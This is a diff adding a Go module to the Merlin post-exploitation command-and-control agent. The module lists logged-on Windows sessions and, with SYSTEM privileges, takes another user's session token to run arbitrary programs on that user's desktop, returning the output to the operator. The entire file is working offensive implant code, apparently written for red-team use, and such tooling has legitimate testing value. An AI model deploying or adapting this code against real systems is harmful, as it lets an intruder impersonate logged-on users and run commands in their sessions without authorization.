@@ -0,0 +1,219 @@
+//go:build windows
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"strconv"
+	"strings"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin-message/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/wtsapi32"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/processes"
+)
+
+// userSession is a Windows Terminal Services session and the user logged on to it
+type userSession struct {
+	ID      uint32
+	Station string
+	State   uint32
+	User    string
+}
+
+// Session lists logged-on user sessions or executes a program inside another user's session
+// session list
+// session run <id|user|active> <program> [arguments...]
+// Running a program in another user's session requires SYSTEM privileges (SeTcbPrivilege) to call WTSQueryUserToken.
+// The process is created on the user's interactive desktop (winsta0\default) with the user's environment
+func Session(cmd jobs.Command) (results jobs.Results) {
+	cli.Message(cli.DEBUG, fmt.Sprintf("entering Session() with %+v", cmd))
+
+	if len(cmd.Args) < 1 {
+		results.Stderr = "no arguments were provided to the session module"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "list":
+		return listSessions()
+	case "run":
+		if len(cmd.Args) < 3 {
+			results.Stderr = fmt.Sprintf("expected 3+ arguments, received %d for the session run command", len(cmd.Args))
+			return
+		}
+		return runInSession(cmd.Args[1], cmd.Args[2], cmd.Args[3:])
+	default:
+		results.Stderr = fmt.Sprintf("unrecognized session command: %s", cmd.Args[0])
+		return
+	}
+}
+
+// enumerateSessions returns all the sessions on the local host and the user logged on to each one, if any
+func enumerateSessions() (sessions []userSession, err error) {
+	var info *windows.WTS_SESSION_INFO
+	var count uint32
+	err = windows.WTSEnumerateSessions(0, 0, 1, &info, &count)
+	if err != nil {
+		err = fmt.Errorf("there was an error calling windows.WTSEnumerateSessions: %s", err)
+		return
+	}
+	defer windows.WTSFreeMemory(uintptr(unsafe.Pointer(info)))
+
+	for _, s := range unsafe.Slice(info, count) {
+		session := userSession{
+			ID:      s.SessionID,
+			Station: windows.UTF16PtrToString(s.WindowStationName),
+			State:   s.State,
+		}
+		user, err := wtsapi32.WTSQuerySessionInformation(0, s.SessionID, wtsapi32.WTSUserName)
+		if err == nil && user != "" {
+			domain, err := wtsapi32.WTSQuerySessionInformation(0, s.SessionID, wtsapi32.WTSDomainName)
+			if err == nil && domain != "" {
+				user = domain + "\\" + user
+			}
+			session.User = user
+		}
+		sessions = append(sessions, session)
+	}
+	return
+}
+
+// listSessions returns a table of the sessions on the local host
+func listSessions() (results jobs.Results) {
+	sessions, err := enumerateSessions()
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+
+	active := windows.WTSGetActiveConsoleSessionId()
+	results.Stdout = fmt.Sprintf("%-4s %-16s %-14s %s\n", "ID", "Station", "State", "User")
+	for _, s := range sessions {
+		state := sessionStateToString(s.State)
+		if s.ID == active {
+			state += " (console)"
+		}
+		results.Stdout += fmt.Sprintf("%-4d %-16s %-14s %s\n", s.ID, s.Station, state, s.User)
+	}
+	return
+}
+
+// runInSession executes the program in the target session with the logged-on user's token and returns its output.
+// The target is a session ID, the name of a logged-on user (e.g., ACME\rastley or rastley), or "active" for the
+// session attached to the physical console
+func runInSession(target string, program string, args []string) (results jobs.Results) {
+	var sessionID uint32
+	if strings.ToLower(target) == "active" {
+		sessionID = windows.WTSGetActiveConsoleSessionId()
+		if sessionID == 0xFFFFFFFF {
+			results.Stderr = "there is no session attached to the physical console"
+			return
+		}
+	} else if id, err := strconv.ParseUint(target, 10, 32); err == nil {
+		sessionID = uint32(id)
+	} else {
+		sessions, err := enumerateSessions()
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		var found bool
+		for _, s := range sessions {
+			// Prefer an active session when the user is logged on more than once
+			if s.User != "" && matchUser(target, s.User) && (!found || s.State == windows.WTSActive) {
+				sessionID = s.ID
+				found = true
+			}
+		}
+		if !found {
+			results.Stderr = fmt.Sprintf("a session for user %s was not found", target)
+			return
+		}
+	}
+
+	var token windows.Token
+	err := windows.WTSQueryUserToken(sessionID, &token)
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error calling windows.WTSQueryUserToken for session %d, SYSTEM privileges are required: %s", sessionID, err)
+		return
+	}
+	defer token.Close()
+
+	env, err := token.Environ(false)
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error retrieving the environment for the session %d user: %s", sessionID, err)
+		return
+	}
+
+	cli.Message(cli.NOTE, fmt.Sprintf("Executing %s in session %d", program, sessionID))
+	results.Stdout, results.Stderr = processes.CreateProcess(token, program, args, "winsta0\\default", env, true)
+	return
+}
+
+// matchUser returns true if the provided username matches the session's DOMAIN\user name with or without the domain
+func matchUser(username, sessionUser string) bool {
+	if strings.EqualFold(username, sessionUser) {
+		return true
+	}
+	if i := strings.LastIndex(sessionUser, "\\"); i >= 0 && !strings.Contains(username, "\\") {
+		return strings.EqualFold(username, sessionUser[i+1:])
+	}
+	return false
+}
+
+// sessionStateToString converts a WTS_CONNECTSTATE_CLASS value to a string
+func sessionStateToString(state uint32) string {
+	switch state {
+	case windows.WTSActive:
+		return "Active"
+	case windows.WTSConnected:
+		return "Connected"
+	case windows.WTSConnectQuery:
+		return "ConnectQuery"
+	case windows.WTSShadow:
+		return "Shadow"
+	case windows.WTSDisconnected:
+		return "Disconnected"
+	case windows.WTSIdle:
+		return "Idle"
+	case windows.WTSListen:
+		return "Listen"
+	case windows.WTSReset:
+		return "Reset"
+	case windows.WTSDown:
+		return "Down"
+	case windows.WTSInit:
+		return "Init"
+	default:
+		return fmt.Sprintf("Unknown (%d)", state)
+	}
+}